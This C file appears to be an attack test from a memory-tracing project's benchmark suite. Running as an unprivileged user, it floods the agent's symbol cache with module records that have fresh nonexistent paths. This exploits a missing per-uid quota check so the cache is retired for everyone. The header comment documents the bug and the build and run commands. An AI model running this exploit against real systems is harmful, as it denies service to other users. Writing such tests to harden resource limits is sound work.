/*
 * symcache_objects.c - (hostile9) a local user pushes the symbol cache past
 * its per-uid share (and the total) without a single cached frame: each
 * exit snapshot binds one object per module, and an object for a module file
 * that cannot be used (missing path) is made by name_object()/object_new()
 * with no past_share() check. Distinct paths per round => new objects every
 * round, charged to the attacker's uid, until the generation passes
 * --max-symbol-cache-bytes and is retired (everyone's cache starts afresh).
 *
 * Build: cc -O2 -I/work/wt/hostile9/proto -o /tmp/symobj bench/attacks/symcache_objects.c \
 *          /tmp/b-hostile9/.libs/libproto.a   (or the libproto objects)
 * Run:   setpriv --reuid=65534 --regid=65534 --clear-groups /tmp/symobj RUNDIR [N=8000] [ROUNDS=8]
 *        with DIR as 4th argument the paths are DIR/f0..f(N-1) (files the attacker made:
 *        symbols_bind's path, which does call maybe_retire: the generation is retired)
 * Watch: memtracectl status (limits.symbol_cache_bytes: uid 65534's bytes vs per_uid)
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "proto.h"
#include "shm.h"

static int hello_with(const char *dir, int r)
{
	static const char exe[] = "/bin/symobj";
	uint8_t hello[1024];
	struct proto_hello h = {.version = PROTO_VERSION,
	                        .nframes = 32,
	                        .pid = (uint32_t)getpid(),
	                        .exe = exe,
	                        .exe_len = sizeof exe - 1,
	                        .cmdline = exe,
	                        .cmdline_len = sizeof exe};
	ssize_t hn = proto_hello_encode(hello, sizeof hello, &h);
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	snprintf(a.sun_path, sizeof a.sun_path, "%s/agent.sock", dir);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (connect(fd, (struct sockaddr *)&a, sizeof a) < 0) {
		perror("connect");
		exit(1);
	}
	union {
		struct cmsghdr h;
		char space[CMSG_SPACE(sizeof(int))];
	} ctl;
	struct iovec iov = {hello, (size_t)hn};
	struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1};
	memset(&ctl, 0, sizeof ctl);
	msg.msg_control = ctl.space;
	msg.msg_controllen = sizeof ctl.space;
	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &r, sizeof(int));
	if (sendmsg(fd, &msg, MSG_NOSIGNAL) != hn) {
		perror("hello");
		exit(1);
	}
	return fd;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	uint32_t N = argc > 2 ? (uint32_t)atoi(argv[2]) : 8000;
	int rounds = argc > 3 ? atoi(argv[3]) : 8;
	static const uint8_t bid[20] = {1};
	for (int round = 0; round < rounds; round++) {
		int r = memfd_create("so", MFD_CLOEXEC | MFD_ALLOW_SEALING);
		if (r < 0 || ftruncate(r, (off_t)SHM_SIZE) < 0 ||
		    fcntl(r, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW) < 0)
			return 1;
		char *map = mmap(NULL, SHM_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, r, 0);
		struct shm_header *hd = (struct shm_header *)map;
		hd->magic = SHM_MAGIC;
		hd->version = PROTO_VERSION;
		uint64_t off = 0, seq = 1;
		uint32_t ring = 0;
		for (uint32_t id = 1; id <= N; id++) {
			struct shm_stack *e = (struct shm_stack *)(map + SHM_OFF_ARENA + off);
			e->hash = id;
			e->nframes = 1;
			uint64_t *fr = (uint64_t *)(e + 1);
			fr[0] = UINT64_C(0x100000000) + (uint64_t)(id - 1) * 0x10000 + 0x10;
			((uint64_t *)(map + SHM_OFF_OFFSETS))[id] = off;
			((uint8_t *)(map + SHM_OFF_STATES))[id] = SHM_STACK_READY;
			off += sizeof(*e) + 8;
			struct shm_ring *rg = (struct shm_ring *)(map + SHM_OFF_RING(ring));
			uint64_t h = rg->head;
			rg->ev[h % SHM_RING_CAP] =
			    (struct shm_ev){seq++ << PROTO_EV_KIND_BITS | PROTO_EV_ALLOC,
			                    0x10000 + (uint64_t)id * 64, 64, id, 0};
			rg->head = h + 1;
			if (rg->head == SHM_RING_CAP)
				ring++;
		}
		for (uint32_t i = 0; i <= ring && i < SHM_NRINGS; i++)
			((struct shm_ring *)(map + SHM_OFF_RING(i)))->pending = UINT64_MAX;
		hd->nrings = ring + 1;
		hd->seq = seq;
		munmap(map, SHM_SIZE);
		int fd = hello_with(argv[1], r);
		close(r);
		size_t cap = (size_t)N * 320, len = 0;
		uint8_t *buf = malloc(cap);
		for (uint32_t i = 0; i < N; i++) {
			char path[260];
			int pl = argc > 4
			             ? snprintf(path, sizeof path, "%s/f%u", argv[4], i)
			             : snprintf(path, sizeof path, "/nonexistent/r%04d/%0*u/lib.so",
			                        round, 220, i);
			uint64_t lo = UINT64_C(0x100000000) + (uint64_t)i * 0x10000;
			struct proto_module m = {.bias = lo,
			                         .lo = lo,
			                         .hi = lo + 0x1000,
			                         .build_id = bid,
			                         .build_id_len = sizeof bid,
			                         .path = path,
			                         .path_len = (uint32_t)pl};
			ssize_t k = proto_module_encode(buf + len, cap - len, &m);
			if (k <= 0)
				return 1;
			len += (size_t)k;
		}
		for (size_t o = 0; o < len;) {
			ssize_t w = send(fd, buf + o, len - o, MSG_NOSIGNAL);
			if (w <= 0)
				return 1;
			o += (size_t)w;
		}
		free(buf);
		usleep(500000);
		close(fd);
		printf("round %d: %u modules of fresh missing paths\n", round, N);
		fflush(stdout);
		sleep(3);
	}
	return 0;
}
